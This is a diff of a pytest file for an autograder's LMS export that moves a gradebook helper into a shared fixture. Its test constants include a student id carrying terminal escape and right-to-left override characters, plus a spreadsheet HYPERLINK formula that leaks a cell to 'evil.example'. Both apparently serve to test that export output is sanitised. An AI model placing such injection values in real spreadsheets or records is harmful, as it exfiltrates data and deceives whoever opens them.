@@ -12,13 +12,12 @@ from __future__ import annotations
 import csv
 import subprocess
 import sys
-import warnings
 from pathlib import Path
 
 import pytest
 from nbgrader.api import Gradebook
 
-from conftest import ROOT, run_env
+from conftest import ROOT, graded_submission, run_env
 from grader import batch, score
 from grader import course as course_mod
 from grader import lms as lms_mod
@@ -29,22 +28,6 @@ EVIL = "s\x1b[2Jevil\u202e"  # a student id (a folder name) that would clear the
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
 
-def _graded(course, folders: BatchFolders, sid: str, auto: dict[str, float | None]) -> None:
-    """One submission's own gradebook with its automatic scores, merged into the main one."""
-    own = folders.job(sid).gradebook
-    own.parent.mkdir(parents=True)
-    score.copy_gradebook(folders.template / "gradebook.db", own)
-    with warnings.catch_warnings(), Gradebook(score.db_url(own)) as gb:
-        warnings.simplefilter("ignore", category=Warning)  # nbgrader's add_submission trips SQLAlchemy's autoflush
-        gb.update_or_create_student(sid)
-        gb.add_submission(course.assignment, sid)
-        for nb in gb.find_submission(course.assignment, sid).notebooks:
-            for grade in nb.grades:
-                grade.auto_score = auto[grade.name]
-        gb.db.commit()
-    score.merge(folders.main_db, course.assignment, sid, own)
-
-
 @pytest.fixture(scope="module")
 def graded(tmp_path_factory):
     """s001: every test, and a written answer a TA scored 0.5; s002: lost check_topk, answer
@@ -53,10 +36,10 @@ def graded(tmp_path_factory):
     out = tmp_path_factory.mktemp("lms")
     folders = BatchFolders(out)
     batch.gradebooks_phase(course, folders, {})
-    _graded(course, folders, "s001", {"check_normalize": 2.0, "check_topk": 1.0, "written_why": None})
-    _graded(course, folders, "s002", {"check_normalize": 2.0, "check_topk": 0.0, "written_why": None})
-    _graded(course, folders, "s003", {"check_normalize": 0.0, "check_topk": 1.0, "written_why": 0.0})
-    _graded(course, folders, EVIL, {"check_normalize": 0.0, "check_topk": 0.0, "written_why": 0.0})
+    graded_submission(course, folders, "s001", {"check_normalize": 2.0, "check_topk": 1.0}, {"written_why": None})
+    graded_submission(course, folders, "s002", {"check_normalize": 2.0, "check_topk": 0.0}, {"written_why": None})
+    graded_submission(course, folders, "s003", {"check_normalize": 0.0, "check_topk": 1.0}, {"written_why": 0.0})
+    graded_submission(course, folders, EVIL, {"check_normalize": 0.0, "check_topk": 0.0}, {"written_why": 0.0})
     with Gradebook(score.db_url(folders.main_db)) as gb:
         grade = gb.find_grade("written_why", course.notebook, course.assignment, "s001")
         grade.manual_score, grade.needs_manual_grade = 0.5, False
